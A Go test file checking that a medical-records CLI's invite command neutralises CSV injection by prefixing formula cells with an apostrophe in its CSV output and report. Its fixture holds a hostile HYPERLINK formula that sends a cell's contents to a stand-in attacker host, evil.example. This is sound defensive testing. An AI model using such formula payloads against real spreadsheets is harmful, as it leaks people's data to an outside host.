package invite_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/medplumcli/medplum/client"
	"github.com/medplumcli/medplum/client/medplumtest"
	"github.com/medplumcli/medplum/commands/clitest"
)

// Cells a spreadsheet would run as formulas (CSV injection) are written
// with a leading ' in -o csv and --report, as every -o csv is (numbers
// stay as they are); a cell written that way ('@Mal) is read back
// without it.
func TestInviteCSVReportNeutralisesFormulas(t *testing.T) {
	srv := medplumtest.NewServer(t, medplumtest.WithSeed(1))
	e := clitest.SignedIn(t, srv)
	writeFile(t, e, "users.csv", "role,firstName,lastName,email,externalId\n"+
		`Patient,Eve,Doe,,"=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`+"\n"+
		"Practitioner,'@Mal,Lory,+mallory@example.com,\n")
	r := e.Run("invite", "--csv", "users.csv", "--concurrency", "1", "-q", "-o", "csv", "--report", "results.csv")
	var eve, mal client.Resource
	for _, m := range srv.Memberships(srv.Seed.ProjectID) {
		if m["externalId"] == `=HYPERLINK("https://evil.example/?d="&A1,"open")` {
			eve = m
		}
	}
	mal = srv.MembershipByEmail(srv.Seed.ProjectID, "+mallory@example.com")
	if eve == nil || mal == nil {
		t.Fatalf("not invited: %v %v; %+v", eve, mal, r)
	}
	r.Expect(t, 0,
		"line,email,external_id,status,membership_id,error,change,earlier_run\n"+
			`2,,"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",created,`+eve.ID()+",,,false\n"+
			"3,'+mallory@example.com,,created,"+mal.ID()+",,,false\n",
		"2 rows: 2 created, 0 exists, 0 updated, 0 failed, 0 skipped\n"+
			"report: results.csv\n")
	report, err := os.ReadFile(filepath.Join(e.Home, "results.csv"))
	if err != nil || string(report) != r.Stdout {
		t.Errorf("report file (%v):\n%s\nwant the same as stdout", err, report)
	}
	ref, _ := mal["profile"].(map[string]any)["reference"].(string)
	prof := srv.Resource("Practitioner", ref[len("Practitioner/"):])
	if name := prof["name"].([]any)[0].(map[string]any)["given"].([]any)[0]; name != "@Mal" {
		t.Errorf("mallory's first name is %q, want @Mal", name)
	}
}
